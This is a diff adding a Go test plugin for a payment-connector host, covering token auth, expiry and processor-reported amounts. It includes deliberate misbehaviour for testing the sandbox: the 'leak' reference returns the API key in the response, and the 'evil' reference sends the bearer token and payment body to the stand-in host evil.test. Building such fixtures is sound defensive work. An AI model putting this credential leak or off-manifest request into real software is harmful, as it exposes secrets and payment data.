@@ -1,0 +1,98 @@
+// Command tokenized is a test plugin for the executor: its Authorize needs an
+// access token first (a next step), re-authenticates when the processor says
+// the token expired, reports the processor's amount, currency and reference
+// (so tests can make them disagree with the request), and misbehaves on
+// request: reference "leak" returns the API key in the response, "evil"
+// builds a request to an undeclared host.
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"strconv"
+
+	pluginv1 "github.com/connectorhost/connector-host/gen/connectorhost/plugin/v1"
+	v1 "github.com/connectorhost/connector-host/gen/connectorhost/v1"
+	"github.com/connectorhost/connector-host/pdk"
+)
+
+type payment struct {
+	ID       string `json:"id"`
+	Amount   int64  `json:"amount"`
+	Currency string `json:"currency"`
+	Ref      string `json:"ref"`
+	Error    string `json:"error"`
+}
+
+func buildToken(c *pdk.Context, _ *v1.MerchantAuthenticationServiceCreateAccessTokenRequest) (*pluginv1.HttpRequest, error) {
+	key, err := c.Credential("api_key")
+	if err != nil {
+		return nil, err
+	}
+	return pdk.NewRequest("POST", c.URL("/token")).SecretHeader("Authorization", "Basic "+key).Build(), nil
+}
+
+func parseToken(c *pdk.Context, _ *v1.MerchantAuthenticationServiceCreateAccessTokenRequest, res *pdk.Response) (*v1.MerchantAuthenticationServiceCreateAccessTokenResponse, error) {
+	var body struct {
+		Token     string `json:"token"`
+		ExpiresIn int64  `json:"expires_in"`
+	}
+	if res.Status != 200 || json.Unmarshal(res.Body, &body) != nil {
+		return nil, pdk.Errorf(pluginv1.ErrorKind_ERROR_KIND_CREDENTIALS, "token endpoint answered %d", res.Status)
+	}
+	return &v1.MerchantAuthenticationServiceCreateAccessTokenResponse{
+		AccessToken: &v1.AccessToken{Token: body.Token, ExpiresAtUnix: c.Now().Unix() + body.ExpiresIn},
+	}, nil
+}
+
+func buildAuthorize(c *pdk.Context, r *v1.PaymentServiceAuthorizeRequest) (*pluginv1.HttpRequest, error) {
+	tok := c.State.GetAccessToken().GetToken()
+	if tok == "" {
+		return nil, pdk.NeedStep(v1.Flow_FLOW_CREATE_ACCESS_TOKEN, &v1.MerchantAuthenticationServiceCreateAccessTokenRequest{})
+	}
+	url := c.URL("/pay")
+	if r.GetMerchantTransactionId() == "evil" {
+		url = "https://evil.test/pay"
+	}
+	body := fmt.Sprintf(`{"amount":%d,"currency":%q,"ref":%q}`, r.GetAmount().GetMinorAmount(), r.GetAmount().GetCurrency(), r.GetMerchantTransactionId())
+	return pdk.NewRequest("POST", url).SecretHeader("Authorization", "Bearer "+tok).
+		IdempotencyKey("Idempotency-Key", r.GetMerchantTransactionId()).Body("application/json", []byte(body)).Build(), nil
+}
+
+func parseAuthorize(c *pdk.Context, r *v1.PaymentServiceAuthorizeRequest, res *pdk.Response) (*v1.PaymentServiceAuthorizeResponse, error) {
+	var p payment
+	_ = json.Unmarshal(res.Body, &p)
+	switch {
+	case res.Status == 401 && p.Error == "token_expired":
+		return nil, pdk.NeedStep(v1.Flow_FLOW_CREATE_ACCESS_TOKEN, &v1.MerchantAuthenticationServiceCreateAccessTokenRequest{})
+	case res.Status == 400:
+		return nil, pdk.Errorf(pluginv1.ErrorKind_ERROR_KIND_PROCESSOR_REJECTED, "processor said: %s", res.Body)
+	case res.Status != 200:
+		return nil, pdk.Errorf(pluginv1.ErrorKind_ERROR_KIND_PROCESSOR_UNAVAILABLE, "processor answered %d", res.Status)
+	}
+	out := &v1.PaymentServiceAuthorizeResponse{
+		ConnectorTransactionId: p.ID, Status: v1.PaymentStatus_PAYMENT_STATUS_CHARGED,
+		Amount: &v1.Money{MinorAmount: p.Amount, Currency: p.Currency}, MerchantTransactionId: p.Ref,
+		State: &v1.ConnectorState{Values: map[string]string{"calls": strconv.Itoa(len(res.Body))}},
+	}
+	if r.GetMerchantTransactionId() == "leak" {
+		out.ConnectorReferenceId = c.Credentials["api_key"]
+	}
+	return out, nil
+}
+
+func init() {
+	pdk.Register(&pdk.Connector{
+		Manifest: &v1.Manifest{
+			Name: "tokenized", Version: "1.0.0", SandboxBaseUrl: "https://api.tokenized.test", EgressHosts: []string{"api.tokenized.test"},
+			IdempotencyHeader: "Idempotency-Key", RequiresAccessToken: true,
+			CredentialFields: []*v1.CredentialField{{Name: "api_key", Secret: true, Required: true}},
+		},
+		Flows: pdk.Flows{
+			CreateAccessToken: pdk.Handler[*v1.MerchantAuthenticationServiceCreateAccessTokenRequest, *v1.MerchantAuthenticationServiceCreateAccessTokenResponse]{Build: buildToken, Parse: parseToken},
+			Authorize:         pdk.Handler[*v1.PaymentServiceAuthorizeRequest, *v1.PaymentServiceAuthorizeResponse]{Build: buildAuthorize, Parse: parseAuthorize},
+		},
+	})
+}
+
+func main() {}
